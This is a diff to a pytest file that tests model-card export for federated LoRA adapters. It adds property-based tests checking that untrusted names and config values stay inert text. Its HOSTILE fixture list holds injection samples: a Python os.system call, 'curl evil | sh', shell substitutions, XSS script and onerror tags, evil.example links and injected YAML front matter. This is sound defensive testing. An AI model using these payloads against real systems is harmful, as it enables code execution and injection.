@@ -1,7 +1,9 @@
 """pytest tests/test_export.py: merged models, adapter folders, and what their cards say."""
 
+import ast
 import contextlib
 import io
+import itertools
 import json
 import re
 import shlex
@@ -14,7 +16,11 @@ from pathlib import Path
 import peft
 import pytest
 import torch
+import yaml
 from huggingface_hub import ModelCard
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 from omegaconf import OmegaConf
 from safetensors.torch import load_file
 from transformers import AutoModelForCausalLM, AutoTokenizer
@@ -237,13 +243,35 @@ def record(folder: Path, rounds: int = 9) -> None:
     """What a run leaves beside its adapters."""
     cfg = "experiment=quickstart num_clients=4 strategy=fedadam partitioner=dirichlet"
     utils.record(compose(cfg), [], folder)
+    clients = [{"partition": i, "num-examples": 160, "records": 90} for i in (0, 1)]
+    held = [{"partition": i, "num-examples": 10 + i} for i in (0, 1)]
     entries = [
-        {"round": n, "train_loss": n / 8, "sampled": 2, "eval_loss": n / 4}
+        {
+            "round": n,
+            "train_loss": n / 8,
+            "sampled": 2,
+            "eval_loss": n / 4,
+            "clients": clients,
+            "eval_clients": held,
+        }
         for n in range(1, rounds + 1)
     ]
     utils.write_json(folder / "history.json", {"rounds": entries})
     summary = {"rounds": rounds, "exact_match_before": 0.0, "exact_match_after": 0.9791}
     utils.write_json(folder / "summary.json", summary)
+    utils.write_json(folder / "answers.json", [{}] * 335)
+
+
+def table_rows(text: str) -> dict[str, str]:
+    """The tables of a card as they are shown: first cell to the others."""
+    tokens = MarkdownIt("commonmark").enable("table").parse(text)
+    shown: list[list[str]] = []
+    for token, inside in itertools.pairwise(tokens):
+        if token.type == "tr_open":
+            shown.append([])
+        if token.type in ("td_open", "th_open"):
+            shown[-1].append("".join(part.content for part in inside.children))
+    return {first: " | ".join(rest) for first, *rest in shown}
 
 
 def test_a_card_tells_what_the_run_tells(save):
@@ -257,7 +285,7 @@ def test_a_card_tells_what_the_run_tells(save):
     assert card.data.base_model_relation == "adapter"
     assert card.data.datasets is None  # a local file is nothing on the hub
     assert {"federated-learning", "lora"} <= set(card.data.tags)
-    rows = dict(re.findall(r"^\| ([^|]+) \| (.*) \|$", card.text, re.M))
+    rows = table_rows(card.text)
     commit = subprocess.run(
         ["git", "rev-parse", "HEAD"], cwd=PROJECT, capture_output=True, text=True
     )
@@ -271,16 +299,32 @@ def test_a_card_tells_what_the_run_tells(save):
     assert rows["strategy"] == "FedAdam"
     assert rows.get("commit of llm-flowertune", "") == commit.stdout.strip()
     assert f"peft {peft.__version__}" in rows["exported with"]
-    assert rows["train loss"] == " | 0.875"
-    assert rows["eval loss"] == " | 1.75"
-    assert rows["exact match"] == "0 | 0.9791"
+    assert rows["train loss, nats per answer token"] == "0.875"
+    assert rows["records to train on"] == "180 of 2 clients that took part"
+    assert rows["learning rate"].startswith("0.003, by a cosine over the rounds")
+    assert rows["a client's round"] == "10 steps"
+    assert rows["batch"] == "16 examples"
+    assert rows["longest example, tokens"] == "128"
+    assert rows["seed"] == "0"
+    assert rows["updates sent in"] == "float16"
+    assert rows["eval loss"] == " | 1.75 | nats per answer token"
+    assert rows["exact match"].startswith("0 | 0.9791 | share of answers")
+    shown = card.text.replace("\\", "")
+    assert "the 335 of assets/tiny_qa/test.jsonl" in shown
+    assert "21 records that 2 clients held back" in shown
+    assert "cut at 12 tokens" in shown
+    # The prompt of a record with an input is training's too.
+    tokenizer = AutoTokenizer.from_pretrained(source)
+    asked = {"instruction": export.QUESTION, "input": export.INPUT}
+    prompt = dataset.TEMPLATES["alpaca"]([asked], tokenizer)
+    assert f"```text\n{prompt}\n```" in card.text
 
 
 def test_an_earlier_rounds_card_does_not_boast_of_the_last(save):
     source = save()
     record(source.parent)
     text = (run(source) / "README.md").read_text()
-    assert "| train loss |  | 0.875 |" in text
+    assert table_rows(text)["train loss, nats per answer token"] == "0.875"
     assert "exact match" not in text
 
 
@@ -351,7 +395,7 @@ def test_no_path_of_this_machine_is_shared(options, save, tmp_path):
     card = ModelCard.load(folder / "README.md")
     assert card.data.base_model == "my_llama"
     assert "notes.jsonl" in card.text
-    assert "The base, `my_llama`, was a folder on one machine" in card.text
+    assert "The base, my_llama, was a folder on one machine" in card.text
     for file in folder.glob("*[!s]"):  # all but *.safetensors
         for secret in (str(tmp_path), str(PROJECT), "secret"):
             assert secret not in file.read_text(), file
@@ -391,12 +435,178 @@ def test_what_fails_half_way_leaves_nothing(save, monkeypatch):
     assert [path.name for path in source.parent.iterdir()] == ["peft_7"]
 
 
+# Nothing was asked; the figures are of another round.
+WHOLE = [("answers.json", "[]"), ("summary.json", '{"rounds": 1}')]
+BROKEN = ["{", "[]", "[" * 5_000, "null", '{"rounds": 1}', "\x00", "a: b: c"]
+
+
+@pytest.fixture(scope="module")
+def card(tmp_path_factory):
+    """Makes a card without a model: what it is told, in the places of foreign texts."""
+    tokenizer = AutoTokenizer.from_pretrained(PROJECT / "assets/tiny_llama")
+    folder = tmp_path_factory.mktemp("card")
+    record(folder, rounds=7)
+    (folder / ".hydra/config.yaml").unlink()
+    plain = OmegaConf.to_container(compose("experiment=quickstart"), resolve=True)
+
+    def make(base: str = "a/b", text: str = "plain", name="adapter_7", merged=False):
+        model = {"name": base, "quantization": 4}
+        settings = {"peft_type": "LORA", "r": 8, "target_modules": [text]}
+        made = export.Card(
+            name=name,
+            merged=merged,
+            license=None,
+            about={"round": 7, "template": "alpaca", "model": model},
+            settings=settings | {"lora_alpha": text},
+            tokenizer=tokenizer,
+            run=folder,
+            local=True,
+        )
+        made.mode = "federated"
+        made.cfg = plain | {
+            "dataset": {"name": text, "path": text, "test_path": text},
+            "strategy": {"_target_": text},
+            "partitioner": {"_target_": text},
+            "comm": {"dtype": text},
+            "train": plain["train"] | {"learning_rate_max": text},
+        }
+        return made.text()
+
+    return make
+
+
+# What breaks out of Python, a shell, YAML, HTML, or one of Markdown's constructs.
+HOSTILE = [
+    'x/y", device_map="auto"); import os; os.system("id"); f("z',
+    "x; curl evil | sh #",
+    "$(id) `id` 'a' \"b\" \\",
+    "<img src=x onerror=alert(1)><script>alert(1)</script>",
+    "![x](http://evil.example/x.png) [y](http://evil.example)",
+    "http://evil.example www.evil.example a@evil.example",
+    "a | b |\n| --- |\n\n# title\n\n<b>\n\n```\n</details>",
+    "\n---\nlicense: mit\n---\n",
+    "\u202eabc\u2066 \x1b[2J \x00",
+    "-rf",
+    "'''\n\"\"\"",
+]
+hostile = st.one_of(
+    st.lists(st.sampled_from(HOSTILE) | st.text(max_size=8), max_size=3).map("".join),
+    st.text(max_size=30),
+)
+
+# What `export` lets pass of a folder's name.
+named = hostile.map(lambda t: "".join(filter(str.isprintable, t)) or "x")
+
+
+def anatomy(text: str) -> tuple[list[str], dict[str, list[str]]]:
+    """The kinds of Markdown in a card, and its blocks of code by language."""
+    body = ModelCard(text).text
+    tokens = MarkdownIt("commonmark").enable("table").parse(body)
+    kinds, blocks = [], {}
+    for token in tokens:
+        for part in (token, *(token.children or ())):
+            kinds.append(part.type)
+        if token.type == "fence":
+            blocks.setdefault(token.info, []).append(token.content)
+        elif token.type == "inline":
+            bare = re.sub(r"\\.", "", token.content)
+            assert not re.search(r"://|www\.|@", bare), "a link on GitHub"
+    return kinds, blocks
+
+
+def skeleton(code: str) -> tuple[str, list[str]]:
+    """A program without its texts, and those."""
+    tree = ast.parse(code)
+    texts = [
+        node
+        for node in ast.walk(tree)
+        if isinstance(node, ast.Constant) and isinstance(node.value, str)
+    ]
+    found = [node.value for node in texts]
+    for node in texts:
+        node.value = ""
+    return ast.dump(tree), found
+
+
+@settings(
+    max_examples=60,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture],
+)
+@given(base=named, text=hostile, name=named)
+@pytest.mark.parametrize("merged", [False, True])
+def test_what_strangers_wrote_is_text_in_a_card(card, merged, base, text, name):
+    name = name.replace("/", "") or "x"
+    plain = card(merged=merged)
+    told = card(base, text, name=name, merged=merged)
+    kinds, blocks = anatomy(told)
+    wanted, usual = anatomy(plain)
+    assert {"html_block", "html_inline", "image", "link_open"}.isdisjoint(kinds)
+    keep = ("table_open", "heading_open", "fence", "tr_open", "td_open")
+    keep += ("em_open", "strong_open", "code_inline")
+    assert [k for k in kinds if k in keep] == [k for k in wanted if k in keep]
+    # Python: the same program, in which the name is one of the texts.
+    shape, texts = skeleton(blocks["python"][0])
+    assert shape == skeleton(usual["python"][0])[0]
+    assert f"./{name}" in texts
+    assert merged or base in texts
+    # A shell: the same words, or the whole name as one of them.
+    for block, other in zip(blocks["bash"], usual["bash"], strict=True):
+        words = shlex.split(block)
+        assert len(words) == len(shlex.split(other))
+        if "curl" in words:
+            assert json.loads(words[-1])["model"] in (name, f"./{name}")
+        elif "--enable-lora" in words:
+            assert words[2] == (f"./{base}" if base.startswith("-") else base)
+            assert words[7] == f"{name}=./{name}"
+    # The hub's own reader finds the name in the front matter.
+    assert ModelCard(told).data.base_model == base
+    assert ModelCard(told).data.license is None
+
+
+@pytest.mark.parametrize("name", [HOSTILE[0], HOSTILE[1], "a b/c", "a\nb"])
+def test_a_base_that_is_neither_a_name_nor_a_folder_is_refused(name, save):
+    source = save()
+    about = json.loads((source / model.ABOUT).read_text())
+    about["model"]["name"] = name
+    utils.write_json(source / model.ABOUT, about)
+    with pytest.raises(UserError, match="neither a folder here nor a name of the hub"):
+        run(source)
+    assert [path.name for path in source.parent.iterdir()] == ["peft_7"]
+
+
+@pytest.mark.parametrize(
+    "text", ["${oc.env:MINE}", "a ${oc.env:MINE}", "${${mode}:MINE}"]
+)
+def test_a_run_does_not_ask_for_what_is_the_readers(text, tmp_path, monkeypatch):
+    monkeypatch.setenv("MINE", "hf_SECRET")
+    settings = {"mode": "oc.env", "seed": 3, "one": "${seed}", "other": [{"a": text}]}
+    (tmp_path / ".hydra").mkdir()
+    (tmp_path / ".hydra/config.yaml").write_text(yaml.safe_dump(settings))
+    cfg = utils.read_config(tmp_path)
+    assert cfg.one == 3
+    assert "hf_SECRET" not in OmegaConf.to_yaml(cfg, resolve=True)
+    assert "MINE" in cfg.other[0].a
+
+
 def test_broken_records_of_a_run_are_named(save):
     source = save()
-    for name in ("history.json", "summary.json", ".hydra/config.yaml"):
+    for name in ("history.json", "summary.json", "answers.json", ".hydra/config.yaml"):
+        for content in BROKEN:
+            record(source.parent, rounds=7)
+            (source.parent / name).write_text(content)
+            if (name, content) in WHOLE:
+                continue
+            with pytest.raises(UserError, match=f"{name} is broken") as told:
+                run(source)
+            assert len(str(told.value).splitlines()) == 1
+    # Whole, but for what a card reads.
+    for key, value in (("eval_loss", "<b>"), ("train_loss", None), ("clients", [7])):
         record(source.parent)
-        (source.parent / name).write_text("{")
-        with pytest.raises(UserError, match=f"{name} is broken"):
+        history = json.loads((source.parent / "history.json").read_text())
+        history["rounds"][6][key] = value
+        utils.write_json(source.parent / "history.json", history)
+        with pytest.raises(UserError, match=f"history.json is broken: .*{key}"):
             run(source)
 
 
